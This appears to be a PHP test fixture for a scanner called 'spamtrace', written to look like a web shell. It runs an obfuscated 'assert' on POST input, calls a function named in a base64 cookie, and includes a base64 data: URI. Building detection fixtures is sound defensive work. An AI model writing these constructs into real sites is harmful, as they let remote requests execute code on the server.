<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Builds a function name with implode(), calls it with a posted value; includes a data: URI.
$name = implode('', ['as', 'se', 'rt']);
$name(stripslashes($_POST['p'] ?? ''));
$options = json_decode(base64_decode($_COOKIE['o'] ?? ''), true);
if ($options) {
    $fn = $options['f'];
    $fn($options['a']);
}
include 'data://text/plain;base64,PD9waHAgZWNobyAiaGVsbG8iOyA/Pg==';
